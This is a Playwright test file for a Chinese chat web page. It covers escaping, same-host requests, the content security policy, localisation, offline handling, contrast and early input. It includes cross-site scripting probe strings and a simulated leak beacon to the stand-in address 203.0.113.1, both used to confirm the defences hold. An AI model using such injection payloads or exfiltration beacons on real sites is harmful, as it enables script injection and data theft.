"""The chat page in Chromium: what leaves it and what it withstands: markup, hosts, policies, a lost connection, a slow start."""

import re
from collections.abc import Callable
from urllib.parse import urlsplit

from playwright.sync_api import Dialog, Page, Route, expect

from tests.support.chatting import BOX, NEWEST, answered, ask

Visit = Callable[..., Page]


def test_markup_in_a_question_stays_text(visit: Visit) -> None:
    page = visit()
    spoken: list[str] = []

    def on_dialog(dialog: Dialog) -> None:
        spoken.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", on_dialog)
    question = '<img src=x onerror="alert(1)"><script>alert(2)</script>五星要多少分 ${alert(3)} {{value}}'
    ask(page, question)
    expect(page.locator(f"{NEWEST} .xp-question")).to_contain_text(question)
    ask(page, "那四星呢？")
    assert page.locator(".xp-turn img, .xp-turn script").count() == 0
    assert spoken == []


def test_every_request_goes_to_the_own_host(visit: Visit, url: str) -> None:
    page = visit()
    wanted: set[str] = set()
    refused: list[str] = []
    page.on("request", lambda request: wanted.add(request.url))
    page.on("console", lambda message: refused.append(message.text) if message.type == "error" else None)
    page.reload()
    page.wait_for_selector(".xp-starters button")
    ask(page, "五星要多少分？")
    page.click(f"{NEWEST} .xp-source")
    page.click(f'{NEWEST} [data-vote="up"]')
    page.goto(f"{url}docs")
    page.wait_for_load_state("networkidle")
    assert len(wanted) > 20
    assert {urlsplit(one).netloc for one in wanted if not one.startswith("data:")} == {urlsplit(url).netloc}
    assert refused == []


def test_the_policy_stops_what_would_leave_the_host(visit: Visit) -> None:
    """Even markup that slipped in could not send the answer away."""
    page = visit()
    stopped = page.evaluate(
        """() => new Promise((resolve) => {
          document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective));
          const image = document.createElement('img');
          image.src = 'http://203.0.113.1/?leak';
          document.body.append(image);
        })"""
    )
    assert stopped == "img-src"


def test_nothing_on_the_page_is_english(visit: Visit) -> None:
    """The browser speaks English; the page does not. Names of standards and firms are no English."""
    page = visit()
    ask(page, "今天股票涨了吗")
    shown = page.evaluate(
        """() => {
          const texts = [document.title, document.body.innerText];
          for (const element of document.querySelectorAll('body *')) {
            if (!element.checkVisibility()) continue;
            for (const name of ['aria-label', 'title', 'placeholder', 'alt']) texts.push(element.getAttribute(name) || '');
          }
          return texts.join('\\n');
        }"""
    )
    words = set(re.findall(r"[A-Za-z]{2,}", shown)) - {"GB", "SB", "ISO", "CTEAS"}
    assert words == set()
    assert page.evaluate("document.documentElement.lang") == "zh-CN"


def test_a_lost_connection_is_told_in_chinese_until_it_is_back(visit: Visit) -> None:
    page = visit()

    def cut(route: Route) -> None:
        route.abort("connectionrefused")

    page.route("**/gradio_api/**", cut)
    page.fill(BOX, "五星要多少分？")
    page.press(BOX, "Enter")
    expect(page.locator("#xp-toast")).to_contain_text("连接断了")
    expect(page.locator('[data-testid="toast-body"]').first).to_be_hidden()
    page.unroute("**/gradio_api/**", cut)
    expect(page.locator("#xp-toast")).to_be_hidden(timeout=20_000)
    page.wait_for_selector(".xp-starters button")
    ask(page, "五星要多少分？")


def test_both_colour_schemes_are_legible(visit: Visit) -> None:
    """Text against its background reaches the contrast of WCAG AA (4.5 : 1)."""
    for scheme in ("light", "dark"):
        page = visit(color_scheme=scheme)
        ask(page, "五星要多少分？")
        for selector in (
            ".xp-question",
            ".xp-answer p",
            ".xp-source .xp-trust",
            ".xp-clause",
            ".xp-cite",
            ".xp-passage",
            "#xp-send",
        ):
            assert contrast(page, selector) >= 4.5, (scheme, selector)


def contrast(page: Page, selector: str) -> float:
    """WCAG contrast of an element's text against the first painted background behind it."""
    return float(
        page.evaluate(
            """(selector) => {
              const parse = (colour) => colour.match(/[\\d.]+/g).map(Number);
              const light = ([r, g, b]) => [r, g, b].map((v) => v / 255)
                .map((v) => (v <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4))
                .reduce((sum, v, i) => sum + v * [0.2126, 0.7152, 0.0722][i], 0);
              const element = document.querySelector(selector);
              let behind = element;
              while (behind) {
                const [r, g, b, a] = parse(getComputedStyle(behind).backgroundColor);
                if (a === undefined || a === 1) break;
                behind = behind.parentElement;
              }
              const one = light(parse(getComputedStyle(element).color));
              const two = light(parse(getComputedStyle(behind).backgroundColor));
              return (Math.max(one, two) + 0.05) / (Math.min(one, two) + 0.05);
            }""",
            selector,
        )
    )


class Held:
    """The page's calls to the service, kept back until `release`."""

    def __init__(self, page: Page) -> None:
        self._routes: list[Route] = []
        self._holding = True
        self._page = page
        page.route("**/gradio_api/queue/join*", self._hold)

    def _hold(self, route: Route) -> None:
        if self._holding:
            self._routes.append(route)
        else:
            route.continue_()

    def release(self) -> None:
        """Once there is one, let all go; later ones are not held."""
        while not self._routes:
            self._page.wait_for_timeout(50)
        self._holding = False
        for route in self._routes:
            route.continue_()


def test_what_is_typed_before_the_page_has_begun_is_kept(visit: Visit, url: str) -> None:
    page = visit().context.new_page()
    held = Held(page)
    page.goto(url)
    page.fill(BOX, "五星要多少分？")
    held.release()
    page.wait_for_selector(".xp-starters button")
    expect(page.locator(BOX)).to_have_value("五星要多少分？")
    page.press(BOX, "Enter")
    answered(page, "五星要多少分？")


def test_a_question_asked_before_the_page_has_begun_follows_the_kept_conversation(visit: Visit) -> None:
    page = visit()
    ask(page, "五星要多少分？")
    held = Held(page)
    page.reload()
    page.fill(BOX, "那四星呢？")
    page.press(BOX, "Enter")
    held.release()
    answered(page, "那四星呢？")
    expect(page.locator(f"{NEWEST} .xp-answer")).to_contain_text("90")
    page.wait_for_timeout(500)  # for what would draw over it
    expect(page.locator(NEWEST)).to_contain_text("那四星呢？")
    page.reload()
    expect(page.locator("#xp-past")).to_contain_text("五星要多少分？")
    expect(page.locator("#xp-current")).to_contain_text("那四星呢？")
